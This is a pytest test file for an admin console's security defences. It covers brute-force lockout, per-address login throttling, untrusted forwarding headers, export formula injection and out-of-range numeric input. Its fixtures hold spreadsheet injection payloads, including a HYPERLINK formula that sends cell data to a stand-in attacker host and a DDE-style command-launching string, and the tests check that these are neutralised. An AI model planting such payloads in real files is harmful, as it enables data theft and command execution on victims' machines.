"""Attacks on the admin console: concurrent password guessing, guessing from one address over many account
names, formula injection through exports, out-of-range numbers in query strings and forms."""

from __future__ import annotations

import asyncio

import pytest
from sqlmodel import select

from bot.models import AuditLog
from salesbot.admin import auth
from salesbot.admin.models import AdminSession, AdminUser
from salesbot.admin.web import LOGIN_ATTEMPTS_PER_IP
from tests.admin_support import ADMIN_PASSWORD, MANAGER_PASSWORD, Browserless, make_accounts, serving, signed_in
from tests.conftest import running_app


@pytest.fixture
async def console(tmp_path):
    async with running_app(tmp_path) as app:
        await make_accounts(app)
        async with serving(app) as base:
            yield app, base


async def _audit(app, prefix: str) -> list[AuditLog]:
    async with app.db.session() as s:
        return list((await s.execute(select(AuditLog).where(AuditLog.action.startswith(prefix)))).scalars())


async def test_concurrent_guesses_with_the_right_password_among_them_do_not_sign_in(console):
    app, _ = console
    attempts = [auth.sign_in(app.db, "boss", f"wrong-guess-{i:03d}", client_ip=f"203.0.113.{i}") for i in range(39)]
    attempts.append(auth.sign_in(app.db, "boss", ADMIN_PASSWORD, client_ip="203.0.113.200"))
    results = await asyncio.gather(*attempts, return_exceptions=True)
    assert all(isinstance(r, auth.AuthError) for r in results), [r for r in results if not isinstance(r, Exception)]
    async with app.db.session() as s:
        user = (await s.execute(select(AdminUser).where(AdminUser.username == "boss"))).scalars().one()
        assert (await s.execute(select(AdminSession))).scalars().all() == []
    assert user.locked_until is not None
    # locked: the right password alone is refused too
    with pytest.raises(auth.AuthError, match="锁定"):
        await auth.sign_in(app.db, "boss", ADMIN_PASSWORD)
    assert len(await _audit(app, "admin.locked")) == 1
    failed = await _audit(app, "admin.login_failed")
    assert 1 <= len(failed) <= auth.MAX_FAILED_ATTEMPTS  # at most the allowed tries ever reach the hash check
    assert len(await _audit(app, "admin.login_refused")) >= 40 - auth.MAX_FAILED_ATTEMPTS


async def test_a_burst_of_25_wrong_passwords_over_http_locks_the_account_and_is_audited(console):
    app, base = console
    clients = [Browserless(base) for _ in range(25)]
    try:
        results = await asyncio.gather(*(c.login("boss", f"bad-password-{i}") for i, c in enumerate(clients)))
    finally:
        for c in clients:
            await c.close()
    assert all(status == 401 for status, _ in results)
    async with app.db.session() as s:
        user = (await s.execute(select(AdminUser).where(AdminUser.username == "boss"))).scalars().one()
    assert user.locked_until is not None
    locks = await _audit(app, "admin.locked")
    assert len(locks) == 1 and locks[0].detail["console_user"] == "boss" and locks[0].actor_role == "admin"
    assert locks[0].detail["client_ip"] == "127.0.0.1"
    refused = await _audit(app, "admin.login_")
    assert len(refused) == 25  # every attempt left a trace: failed, refused while locked, or throttled


async def test_guessing_unknown_account_names_from_one_address_is_throttled(console):
    app, base = console
    client = Browserless(base)
    try:
        answers = [await client.login(f"ghost{i}", "whatever-123") for i in range(20)]
        assert all(status == 401 for status, _ in answers)
        assert all("用户名或密码不对" in body for _, body in answers[:LOGIN_ATTEMPTS_PER_IP])
        assert all("次数太多" in body for _, body in answers[LOGIN_ATTEMPTS_PER_IP:])
        # the real account from the same address is refused too, before its password is checked
        status, body = await client.login("boss", ADMIN_PASSWORD)
        assert status == 401 and "次数太多" in body
    finally:
        await client.close()
    assert len(await _audit(app, "admin.login_failed")) == LOGIN_ATTEMPTS_PER_IP
    assert len(await _audit(app, "admin.login_throttled")) == 20 - LOGIN_ATTEMPTS_PER_IP + 1
    async with app.db.session() as s:
        user = (await s.execute(select(AdminUser).where(AdminUser.username == "boss"))).scalars().one()
    assert user.locked_until is None  # the address was stopped, the account was not touched


async def test_forwarded_for_is_not_believed_without_a_trusted_proxy(console):
    app, base = console
    client = Browserless(base)
    try:
        for i in range(LOGIN_ATTEMPTS_PER_IP):
            client.http.headers["X-Forwarded-For"] = f"198.51.100.{i}"
            await client.login(f"ghost{i}", "whatever-123")
        client.http.headers["X-Forwarded-For"] = "198.51.100.250"
        status, body = await client.login("ghost-next", "whatever-123")
        assert status == 401 and "次数太多" in body
    finally:
        await client.close()


async def test_successful_sign_ins_do_not_use_up_the_address_budget(console):
    app, base = console
    for _ in range(LOGIN_ATTEMPTS_PER_IP + 2):
        async with signed_in(base):
            pass


async def test_audit_rows_carry_the_console_users_real_role(console):
    app, base = console
    async with signed_in(base, "viewer", MANAGER_PASSWORD):
        pass
    logins = await _audit(app, "admin.login")
    viewer = [r for r in logins if r.action == "admin.login" and r.detail.get("console_user") == "viewer"]
    assert viewer and viewer[0].actor_role == "manager"


# --- formula injection through exports ----------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A2,"点击查看")'
EVIL_NAMES = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


async def _plant_accounts(app) -> None:
    from bot.models import Account

    async with app.db.write() as s:
        for name in EVIL_NAMES:
            s.add(Account(name=name, region="华东"))


async def test_exports_never_carry_a_live_formula_and_reimport_does_not_recreate_one(console):
    import csv
    import io
    import zipfile

    from openpyxl import load_workbook

    from bot.models import Account
    from salesbot.admin import importer

    app, base = console
    await _plant_accounts(app)
    async with signed_in(base) as c:
        async with c.http.get(base + "/admin/data/export/accounts.csv") as r:
            assert r.status == 200
            text = (await r.read()).decode("utf-8-sig")
        async with c.http.get(base + "/admin/data/export/accounts.xlsx") as r:
            assert r.status == 200
            xlsx = await r.read()
    names = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    for evil in EVIL_NAMES:
        assert "'" + evil in names, evil
    assert not any(n.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    # no formula element anywhere in the workbook, and every planted name is a plain string cell
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)
    ws = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    cells = {str(row[0].value): row[0] for row in ws.iter_rows(min_row=2)}
    for evil in EVIL_NAMES:
        cell = cells["'" + evil]
        assert cell.data_type == "s", (evil, cell.data_type)
    # importing either file back: the same names (the apostrophe removed), all already there, nothing new
    async with app.db.session() as s:
        before = len((await s.execute(select(Account))).scalars().all())
    for name, body in (("a.csv", text.encode("utf-8")), ("a.xlsx", xlsx)):
        headers, rows = importer.read_table(body, name)
        read_names = [str(r[0]) for r in rows]
        for evil in EVIL_NAMES:
            assert evil in read_names or evil.strip() in read_names, (name, evil)
        report = await importer.run_import(app.db, None, body, name, "accounts", dry_run=False)
        assert not report.accepted
    async with app.db.session() as s:
        assert len((await s.execute(select(Account))).scalars().all()) == before
    # and the next export is defused again
    headers, rows = await importer.export_rows(app.db, "accounts")
    assert importer.to_csv(headers, rows).decode("utf-8-sig").count("'=HYPERLINK") == 1


# --- numbers out of range -------------------------------------------------------------------------

HUGE = "99999999999999999999"


async def test_numbers_out_of_range_in_query_path_or_form_get_400_with_a_message(console):
    app, base = console
    async with signed_in(base) as c:
        for path in (
            f"/admin/audit?page={HUGE}",
            "/admin/audit?page=0",
            f"/admin/audit?record_id={HUGE}",
            "/admin/audit?record_id=-5",
            f"/admin/people/{HUGE}",
            f"/admin/knowledge/documents/{HUGE}",
            f"/admin/knowledge/chunks/{HUGE}",
            f"/admin/knowledge/batch/{HUGE}",
            f"/admin/rules/versions/{HUGE}",
            f"/admin/prompts/staff_system?version={HUGE}",
            f"/admin/prompts/staff_system/diff?a={HUGE}&b=published",
            f"/admin/knowledge/hittest?q=价格&top={HUGE}",
        ):
            status, body = await c.get(path)
            assert status == 400, (path, status, body[:300])
            assert "超出范围" in body, path
        for path, data in (
            (f"/admin/people/{HUGE}", {"name": "张伟"}),
            ("/admin/people/new", {"username": "li_lei", "name": "李雷", "role": "rep", "manager_id": HUGE}),
            ("/admin/prompts/staff_system/trial", {"text": "你好 {name}", "sample": [HUGE]}),
            (f"/admin/prompts/versions/{HUGE}/publish", {}),
        ):
            status, body = await c.post(path, data)
            assert status == 400, (path, status, body[:300])
            assert "超出范围" in body, path
        status, body = await c.post(
            "/admin/rules/check", {"text": "version: 1", "kind": "discount", "amount": "1e999", "discount": ""}
        )
        assert status in (200, 400) and "超出范围" in body
        # in range still works
        status, _ = await c.get("/admin/audit?page=2")
        assert status == 200
    assert await app.staff_by_username("li_lei") is None
